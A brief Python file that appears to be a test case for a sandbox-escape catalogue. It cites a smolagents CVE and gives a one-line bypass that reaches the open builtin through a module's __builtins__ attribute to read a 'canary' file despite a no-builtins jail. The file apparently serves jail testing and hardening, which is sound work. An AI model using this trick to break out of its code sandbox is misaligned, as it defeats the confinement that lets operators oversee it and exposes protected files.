"""Each module's names have the builtins.

Known from: CVE-2025-9959 of smolagents: dunder attributes that were not looked at
Effect: read
Host: import string
Given: string
Jail: no builtins
"""
answer = string.__builtins__["open"]("canary").read()
